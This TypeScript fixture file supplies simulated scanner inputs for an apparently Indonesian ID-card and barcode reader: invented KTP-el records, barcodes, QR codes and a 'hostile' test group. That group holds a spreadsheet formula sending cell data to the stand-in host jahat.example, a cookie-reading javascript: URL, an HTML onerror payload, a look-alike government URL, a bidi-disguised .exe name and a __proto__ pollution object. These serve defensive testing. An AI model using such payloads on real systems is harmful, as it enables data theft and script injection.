import type { Sample } from '#contract/simulator';
import { PERSONS } from './persons.ts';
import type { ReaderName } from './readers.ts';

/** A thing on the tray and what the reader gets of it. */
export interface TraySample extends Sample {
  readonly reader: ReaderName;
  readonly bytes: Uint8Array;
  readonly aim?: string;
  readonly vendorSymbology?: number;
  /** The last report is lost on the way. */
  readonly isCutOff?: true;
}

type Titles = readonly [id: string, title: string, note: string];

const CODE_128 = { aim: ']C0', vendorSymbology: 0x6a } as const;
const QR = { aim: ']Q1', vendorSymbology: 0x73 } as const;
const EAN_13 = { aim: ']E0', vendorSymbology: 0x64 } as const;
const GS1_DATA_MATRIX = { aim: ']d2', vendorSymbology: 0x77 } as const;

const utf8 = (text: string) => Buffer.from(text, 'utf8');

const card = (titles: Titles, record: object): TraySample => ({
  ...named('card', titles),
  reader: 'card',
  bytes: utf8(JSON.stringify(record)),
});

const code = (
  group: Sample['group'],
  titles: Titles,
  reader: ReaderName,
  content: string | Uint8Array,
  symbol: { readonly aim?: string; readonly vendorSymbology?: number } = {},
): TraySample => ({
  ...named(group, titles),
  reader,
  bytes: typeof content === 'string' ? utf8(content) : content,
  ...symbol,
});

const named = (group: Sample['group'], [id, title, note]: Titles): Sample => ({ id, group, title, note });

const { budi, siti, yohanes, dewi, rahman } = PERSONS;

/** Any text as a QR code on the Honeywell scanner. */
export const qrOf = (text: string): TraySample => code('barcode', ['text', 'QR', ''], 'honeywell', text, QR);

/** Everything on the tray. Persons are invented, the payment card's number is the well-known test number. */
// prettier-ignore
export const SAMPLES: readonly TraySample[] = [
  card(['card-budi', 'KTP-el Budi Santoso', 'Samarinda Seberang, 12-11-1990'], budi),
  card(['card-siti', 'KTP-el Siti Aminah', 'Perempuan: tanggal lahir + 40 di dalam NIK; RT satu angka'], siti),
  card(['card-yohanes', 'KTP-el Yohanes Wambrauw', 'NIK dengan kode wilayah lama (Merauke)'], yohanes),
  card(['card-dewi', 'KTP-el Dewi Lestari', 'Nama panjang; tanggal lahir berbeda dari NIK'], dewi),
  card(['card-fields-missing', 'KTP-el Abdul Rahman', 'Sebagian data tidak terbaca'], rahman),

  code('barcode', ['nik-honeywell', 'NIK, Code 128, Honeywell', 'NIK Budi Santoso'], 'honeywell', budi.nik, CODE_128),
  code('barcode', ['nik-newland', 'NIK, Code 128, Newland', 'NIK Siti Aminah, AIM di depan data'], 'newland', siti.nik, { aim: ']C0' }),
  code('barcode', ['nik-or-kk', '16 angka: NIK atau No. KK', 'Keduanya mungkin; petugas yang memilih'], 'newland', '6472030505109008'),
  code('barcode', ['thirteen-digits', '13 angka tanpa simbologi', 'EAN, NIB atau BPJS; petugas yang memilih'], 'newland', '4006381333931'),
  code('barcode', ['ean', 'EAN-13', 'Kode barang'], 'honeywell', '4006381333931', EAN_13),
  code('barcode', ['gs1', 'GS1 Data Matrix', 'Kode barang dengan tanggal'], 'honeywell', '010952123454321310ABC123\u001d17261231', GS1_DATA_MATRIX),
  code('barcode', ['nop', 'NOP (PBB)', '18 angka dari surat pajak'], 'newland', '64.72.010.001.002-0034.0'),
  code('barcode', ['dukcapil-url', 'QR dokumen Dukcapil', 'Alamat dikenali, tidak pernah dibuka'], 'honeywell', 'https://layananonline.dukcapil.kemendagri.go.id/v/contoh', QR),

  code('receipt', ['receipt-forged', 'QR tanda terima palsu', 'Bentuknya benar, tanda tangannya tidak'], 'honeywell', 'https://pusat.example/v#1g0TBogEmoQRIQUJDREVGR0igWEBBQkNE', QR),

  code('hostile', ['too-long', 'Terlalu panjang', '9.000 huruf; dibuang seluruhnya'], 'honeywell', 'A'.repeat(9000), QR),
  code('hostile', ['binary', 'Bukan teks', 'Bita acak'], 'honeywell', Uint8Array.from({ length: 60 }, (_, index) => (index * 67 + 129) % 256), QR),
  code('hostile', ['formula', 'Rumus lembar kerja', '=HYPERLINK di dalam QR'], 'honeywell', '=HYPERLINK("http://jahat.example/?"&A1,"Klik")', QR),
  code('hostile', ['javascript-url', 'Alamat javascript:', 'Tidak pernah dibuka'], 'honeywell', 'javascript:alert(document.cookie)', QR),
  code('hostile', ['markup', 'HTML di dalam QR', 'Tampil sebagai teks'], 'honeywell', '<img src=x onerror=alert(1)>', QR),
  code('hostile', ['look-alike-url', 'Alamat mirip Dukcapil', 'Huruf asing; tampil sebagai punycode'], 'honeywell', 'https://layananonline.dukcаpil.kemendagri.go.id/v', QR),
  code('hostile', ['bidi', 'Huruf pembalik arah', 'Tampil sebagai kode'], 'honeywell', 'nama\u202Egpj.exe\u0000\u0007', QR),
  { ...code('hostile', ['cut-off', 'Terpotong', 'Bagian terakhir tidak sampai'], 'honeywell', 'B'.repeat(200), QR), isCutOff: true },
  code('hostile', ['payment-card', 'Kartu pembayaran', 'Nomor dibuang sebelum dilihat siapa pun'], 'honeywell', '%B4111111111111111^CONTOH/ANNA^2912101?;4111111111111111=2912101?', QR),
  { ...card(['card-broken', 'KTP-el: jawaban rusak', 'Pembaca mengirim JSON yang terpotong'], {}), group: 'hostile', bytes: utf8('{"nik":"6472021211909003","nama":') },
  { ...card(['card-extra', 'KTP-el: isi tak dikenal', 'Kunci yang tidak ada di kartu'], {}), group: 'hostile', bytes: utf8('{"nik":"6472021211909003","__proto__":{"admin":true}}') },
];
